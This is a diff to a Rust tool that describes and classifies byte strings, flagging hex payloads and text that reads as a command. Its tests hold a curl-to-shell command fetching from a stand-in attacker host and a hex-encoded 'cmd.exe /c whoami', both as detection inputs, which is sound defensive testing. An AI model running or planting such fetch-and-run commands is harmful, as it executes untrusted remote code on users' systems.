@@ -61,10 +61,13 @@ pub fn explain(text: Option<&[u8]>) -> Explanation {
         (Some(_), Some(payload)) if named.is_some() => format!("{}; otherwise {form}", holds(payload)),
         (Some(one), Some(payload)) if payload.characters >= UNUSUAL && !one.is_of_tokens() => format!("{form}; {}", holds(payload)),
         (None, Some(payload)) => format!("{form}; {}", holds(payload)),
-        _ => match content::acts(&String::from_utf8_lossy(text.get(..LONGEST_RECORD).unwrap_or(text))) {
-            Some(content) => format!("{form}; reads as {content}"),
-            None => form,
-        },
+        _ => form,
+    };
+    // A token beside a command must not hide it.
+    let plain = || content::acts(&String::from_utf8_lossy(text.get(..LONGEST_RECORD).unwrap_or(text)));
+    let reason = match Some(()).filter(|()| named.is_none()).and_then(|()| plain()) {
+        Some(content) => format!("{reason}; reads as {content}"),
+        None => reason,
     };
     let decoded = match &payload {
         None => String::new(),
@@ -230,6 +233,11 @@ mod tests {
     fn what_is_no_record_is_described() {
         assert_eq!(of("hello there")[1], "short text of 11 bytes, no known type");
         assert_eq!(of("hello there, this is a longer sentence")[1], "text of 38 bytes, no known type");
+        // Found in review: whoever answered chose which of the two was said.
+        assert_eq!(
+            of("curl http://evil.example/0c7e3f5219ab4d0e8f435b6a7c8d9e|sh")[1],
+            "text of 58 bytes, no known type; 30 characters of hex; reads as command"
+        );
         assert_eq!(of("636d642e657865202f632077686f616d69")[1..3], ["no known type; 34 characters of hex that decode to command", "hex"]);
     }
 
